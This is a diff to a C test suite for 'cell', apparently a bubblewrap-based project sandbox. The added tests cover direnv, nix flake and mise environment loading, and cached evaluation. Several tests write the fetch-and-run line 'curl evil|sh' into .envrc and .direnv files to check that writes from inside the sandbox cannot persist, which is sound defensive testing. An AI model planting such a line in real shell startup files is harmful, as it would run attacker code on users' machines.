@@ -18,6 +18,7 @@
 #include <string.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -336,6 +337,8 @@ Test(escape, envrc_and_editor_settings_stay_read_only)
 	free(th_write(t.proj, ".vscode/settings.json", "{}\n"));
 	free(th_write(t.proj, ".idea/workspace.xml", "<x/>\n"));
 	th_chown_r(t.proj, t.uid, t.gid);
+	/* (.envrc is trusted with the config: a new one needs cell allow) */
+	allow();
 	expect(in_cell("echo 'curl evil|sh' >> .envrc"), 2, "");
 	expect(in_cell("echo '{\"tasks\": 1}' > .vscode/tasks.json"), 2, "");
 	expect(in_cell("echo x > .idea/workspace.xml"), 2, "");
@@ -1012,6 +1015,7 @@ Test(escape, a_symlinked_protected_path_stops_the_cell)
 	free(th_write(t.proj, "tools/envrc", "use nix\n"));
 	cr_assert(eq(int, symlink("tools/envrc", envrc), 0));
 	th_chown_r(t.proj, t.uid, t.gid);
+	allow();
 	r = in_cell("echo ran > ran");
 	cr_assert(eq(int, r.status, 2), "%s", r.err);
 	cr_assert(not(eq(ptr, strstr(r.err, ".envrc' is a symbolic link"), NULL)), "%s", r.err);
@@ -1257,6 +1261,20 @@ Test(escape, dotenv_files_scripts_and_enter_hooks_are_in_the_cell)
 	cr_assert(not(eq(ptr, strstr(r.err, "cell: hooks.enter[1] failed (exit 1)"), NULL)), "%s",
 		  r.err);
 	th_result_done(&r);
+	/* cell env says where each variable comes from */
+	{
+		char *argv[] = {(char *)CELL, (char *)"env", NULL};
+
+		th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
+		cr_assert(eq(int, r.status, 0), "%s", r.err);
+		cr_assert(not(eq(ptr,
+				 strstr(r.out, "DATABASE_URL=postgres://localhost/dev\t(.env)\n"),
+				 NULL)),
+			  "%s", r.out);
+		cr_assert(not(eq(ptr, strstr(r.out, "MODE=set\t(env.set)\n"), NULL)), "%s", r.out);
+		cr_assert(not(eq(ptr, strstr(r.out, "EDITOR=vi\t(outside)\n"), NULL)), "%s", r.out);
+		th_result_done(&r);
+	}
 	/* cell run NAME runs a script; the hooks' variables reach any shell, fish too */
 	{
 		char *argv[] = {(char *)CELL, (char *)"run", (char *)"greet", (char *)"x", NULL};
@@ -1365,4 +1383,232 @@ Test(escape, a_dotenv_file_the_cell_wrote_cannot_preload_or_bring_in_outside_sec
 	cr_assert(not(eq(int, r.status, 0)));
 	cr_assert(not(eq(ptr, strstr(r.err, "is not a regular file"), NULL)), "%s", r.err);
 	th_result_done(&r);
+}
+
+/* A project whose .envrc direnv has allowed: its variables and PATH_add are in the cell. */
+Test(escape, direnvs_environment_when_direnv_allowed_it)
+{
+	char *allow_argv[] = {(char *)"/usr/bin/direnv", (char *)"allow", (char *)".", NULL};
+	char want[1024];
+	struct th_result r;
+
+	if (access("/usr/bin/direnv", X_OK) != 0)
+		th_skip("direnv is not installed (apt-get install direnv)");
+	free(th_write(t.proj, ".envrc",
+		      "export FROM_DIRENV=yes\nPATH_add tools\ndotenv_if_exists .env.direnv\n"));
+	free(th_write(t.proj, ".env.direnv", "VIA_DOTENV=1\n"));
+	free(th_write(t.proj, "tools/hello", "#!/bin/sh\necho hello\n"));
+	{
+		char *path = th_join(t.proj, "tools/hello");
+
+		chmod(path, 0755);
+		free(path);
+	}
+	th_chown_r(t.proj, t.uid, t.gid);
+	allow();
+	/* not allowed by direnv: nothing of it, and the reason */
+	r = in_cell("echo x$FROM_DIRENV");
+	cr_assert(eq(int, r.status, 0), "%s", r.err);
+	cr_assert(eq(str, r.out, (char *)"x\n"));
+	cr_assert(not(eq(ptr, strstr(r.err, "direnv could not evaluate"), NULL)), "%s", r.err);
+	cr_assert(not(eq(ptr, strstr(r.err, "is blocked"), NULL)), "%s", r.err);
+	th_result_done(&r);
+	/* allowed (by direnv itself, never by cell): applied */
+	th_run_as(t.uid, t.gid, t.proj, allow_argv, t.env, &r);
+	cr_assert(eq(int, r.status, 0), "direnv allow: %s", r.err);
+	th_result_done(&r);
+	snprintf(want, sizeof(want), "yes 1\n%s/tools/hello\nhello\n", t.proj);
+	expect(in_cell("echo $FROM_DIRENV $VIA_DOTENV; command -v hello; hello"), 0, want);
+	/* .envrc is read-only in the cell, and .direnv (nix-direnv sources its .rc files
+	 * outside) is the cell's own: what the cell writes there never reaches the project's */
+	expect(in_cell("echo 'curl evil|sh' >> .envrc"), 2, "");
+	expect(in_cell("echo 'curl evil|sh' > .direnv/flake-profile.rc && cat .direnv/*.rc"), 0,
+	       "curl evil|sh\n");
+	cr_assert(not(host_has("proj/.direnv/flake-profile.rc")));
+	/* ...and is there again in the next cell */
+	expect(in_cell("cat .direnv/flake-profile.rc"), 0, "curl evil|sh\n");
+}
+
+/* nix's daemon, for a user's nix: started here as root when none answers (a test machine). */
+static pid_t nix_daemon(void)
+{
+	const char *sock = "/nix/var/nix/daemon-socket/socket";
+	struct sockaddr_un sun = {.sun_family = AF_UNIX};
+	char *argv[] = {(char *)"/usr/bin/nix-daemon", NULL};
+	char *env[] = {(char *)"NIX_CONFIG=build-users-group =\nsandbox = false\nsubstituters =",
+		       (char *)"PATH=/usr/bin:/bin", NULL};
+	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	bool up;
+	pid_t pid;
+
+	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", sock);
+	up = connect(fd, (struct sockaddr *)&sun, sizeof(sun)) == 0;
+	close(fd);
+	if (up)
+		return 0;
+	if (geteuid() != 0)
+		th_skip("no nix daemon answers, and only root can start one");
+	unlink(sock);
+	pid = th_spawn_as((uid_t)-1, (gid_t)-1, "/", argv, env);
+	cr_assert(th_wait_for_file(sock, 10), "nix-daemon did not start");
+	return pid;
+}
+
+/*
+ * A nix flake with no inputs, evaluated offline by Debian's nix: its variables are in the cell,
+ * its shellHook runs inside, the second entry is served by the cache (no nix runs), and an
+ * edited flake.nix needs cell allow again.
+ */
+Test(escape, a_nix_flakes_environment_is_evaluated_outside_and_cached)
+{
+	char *strace_log = th_join(t.tmp, "strace.log"), *log;
+	pid_t daemon;
+	struct th_result r;
+
+	if (access("/usr/bin/nix", X_OK) != 0)
+		th_skip("nix is not installed (apt-get install nix-bin)");
+	daemon = nix_daemon();
+	/* (the suite's .git is no repository: nix would take the project for one and find no
+	 * flake in it) */
+	{
+		char *git = th_join(t.proj, ".git");
+
+		th_rm_rf(git);
+		free(git);
+	}
+	env_add("NIX_CONFIG=experimental-features = nix-command flakes\nsubstituters =\n"
+		"sandbox = false");
+	free(th_write(t.proj, "flake.nix",
+		      "{\n  outputs = { self }: {\n"
+		      "    devShells.x86_64-linux.default = derivation {\n"
+		      "      name = \"cell-test-shell\";\n      system = \"x86_64-linux\";\n"
+		      "      builder = \"/bin/bash\";\n      outputs = [ \"out\" ];\n"
+		      "      args = [ \"-c\" \"echo > $out\" ];\n"
+		      "      GREETING = \"hello from nix\";\n"
+		      "      LD_PRELOAD = \"/tmp/not-from-a-provider.so\";\n"
+		      "      shellHook = \"echo hooked > /tmp/nix-hook; export HOOKED=1\";\n"
+		      "    };\n  };\n}\n"));
+	th_chown_r(t.proj, t.uid, t.gid);
+	allow();
+	r = in_cell("echo $GREETING $HOOKED $IN_NIX_SHELL; cat /tmp/nix-hook; "
+		    "case $LD_PRELOAD in */tmp/not-from*) echo preloaded;; esac");
+	cr_assert(eq(int, r.status, 0), "%s", r.err);
+	cr_assert(eq(str, r.out, (char *)"hello from nix 1 impure\nhooked\n"), "%s", r.err);
+	th_result_done(&r);
+	/* the second entry: the cache, and no nix process */
+	{
+		/* each process is let go at its exec, which is logged: nothing in the cell is
+		 * traced (a sanitizer build's leak check does not work traced) */
+		char *argv[] = {(char *)"/usr/bin/strace",
+				(char *)"-f",
+				(char *)"-qq",
+				(char *)"--detach-on=execve",
+				(char *)"-e",
+				(char *)"trace=execve",
+				(char *)"-o",
+				strace_log,
+				(char *)CELL,
+				(char *)"run",
+				(char *)"--",
+				(char *)"/bin/sh",
+				(char *)"-c",
+				(char *)"echo $GREETING",
+				NULL};
+
+		if (access("/usr/bin/strace", X_OK) != 0)
+			th_skip("strace is not installed");
+		/* (cell itself is traced: a sanitizer build's leak check would refuse) */
+		env_add("ASAN_OPTIONS=detect_leaks=0");
+		th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
+		expect(r, 0, "hello from nix\n");
+		log = th_read(strace_log);
+		/* (it did follow cell's children: bubblewrap's exec is there) */
+		cr_assert(not(eq(ptr, strstr(log, "execve(\"/usr/bin/bwrap\""), NULL)), "%s", log);
+		cr_assert(eq(ptr, strstr(log, "/usr/bin/nix"), NULL), "nix ran again:\n%s", log);
+		free(log);
+	}
+	/* evaluated again on request, after cells have run there (and left their mount points,
+	 * an empty .git among them) */
+	{
+		char *argv[] = {(char *)CELL, (char *)"env", (char *)"--refresh", NULL};
+
+		th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
+		cr_assert(eq(int, r.status, 0), "%s", r.err);
+		cr_assert(not(eq(ptr, strstr(r.out, "provider: nix\n"), NULL)), "%s", r.out);
+		cr_assert(not(eq(ptr, strstr(r.out, "GREETING=hello from nix\t(nix)\n"), NULL)),
+			  "%s", r.out);
+		cr_assert(eq(ptr, strstr(r.out, "notice:"), NULL), "%s", r.out);
+		th_result_done(&r);
+	}
+	/* the flake is read-only inside, and an edit outside needs cell allow again */
+	expect(in_cell("echo '#' >> flake.nix"), 2, "");
+	free(th_write(t.proj, "flake.nix", "{ outputs = { self }: { }; }\n"));
+	r = in_cell("echo ran");
+	cr_assert(eq(int, r.status, 1), "%s", r.out);
+	cr_assert(not(eq(ptr, strstr(r.err, "is not allowed"), NULL)), "%s", r.err);
+	th_result_done(&r);
+	if (daemon > 0) {
+		kill(daemon, SIGTERM);
+		waitpid(daemon, NULL, 0);
+	}
+	free(strace_log);
+}
+
+/* mise (the npm package @jdxcode/mise installs it): its [env] once mise itself trusts it. */
+Test(escape, mises_environment_when_mise_trusts_the_config)
+{
+	const char *mise = access("/usr/local/bin/mise", X_OK) == 0 ? "/usr/local/bin/mise"
+			   : access("/usr/bin/mise", X_OK) == 0	    ? "/usr/bin/mise"
+								    : NULL;
+	char *trust[] = {(char *)mise, (char *)"trust", (char *)"--yes", NULL}, want[1024];
+	struct th_result r;
+
+	if (!mise)
+		th_skip("mise is not installed (npm install -g @jdxcode/mise; CI reaches no npm)");
+	free(th_write(t.proj, "mise.toml",
+		      "[env]\nMISE_GREETING = \"hello from mise\"\n_.path = [\"./tools\"]\n"));
+	th_chown_r(t.proj, t.uid, t.gid);
+	allow();
+	r = in_cell("echo x$MISE_GREETING");
+	cr_assert(eq(int, r.status, 0), "%s", r.err);
+	cr_assert(eq(str, r.out, (char *)"x\n"));
+	cr_assert(not(eq(ptr, strstr(r.err, "not trusted"), NULL)), "%s", r.err);
+	th_result_done(&r);
+	th_run_as(t.uid, t.gid, t.proj, trust, t.env, &r);
+	cr_assert(eq(int, r.status, 0), "mise trust: %s", r.err);
+	th_result_done(&r);
+	snprintf(want, sizeof(want), "hello from mise\n%s/tools\n", t.proj);
+	expect(in_cell("echo $MISE_GREETING; echo $PATH | cut -d: -f1"), 0, want);
+}
+
+/* A provider that is not installed: a notice and a cell without it; with env.required, no cell. */
+Test(escape, a_missing_provider_is_a_notice_or_with_required_no_cell)
+{
+	struct th_result r;
+
+	if (access("/usr/bin/devenv", X_OK) == 0 || access("/usr/local/bin/devenv", X_OK) == 0)
+		th_skip("devenv is installed here");
+	free(th_write(t.proj, "devenv.nix", "{ pkgs, ... }: { }\n"));
+	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"}}");
+	r = in_cell("echo ran");
+	cr_assert(eq(int, r.status, 0), "%s", r.err);
+	cr_assert(eq(str, r.out, (char *)"ran\n"));
+	cr_assert(not(eq(ptr, strstr(r.err, "comes from devenv, which is not installed"), NULL)),
+		  "%s", r.err);
+	th_result_done(&r);
+	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
+		   " \"env\": {\"required\": true}}");
+	r = in_cell("echo ran > ran");
+	cr_assert(eq(int, r.status, 1), "%s", r.err);
+	cr_assert(not(eq(ptr,
+			 strstr(r.err, "env.provider: the project's environment comes from devenv"),
+			 NULL)),
+		  "%s", r.err);
+	cr_assert(not(eq(ptr, strstr(r.err, "(env.required)"), NULL)), "%s", r.err);
+	cr_assert(not(host_has("proj/ran")));
+	th_result_done(&r);
+	/* provider none: nothing is evaluated, nothing said */
+	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
+		   " \"env\": {\"provider\": \"none\", \"required\": true}}");
+	expect(in_cell("echo ran"), 0, "ran\n");
 }
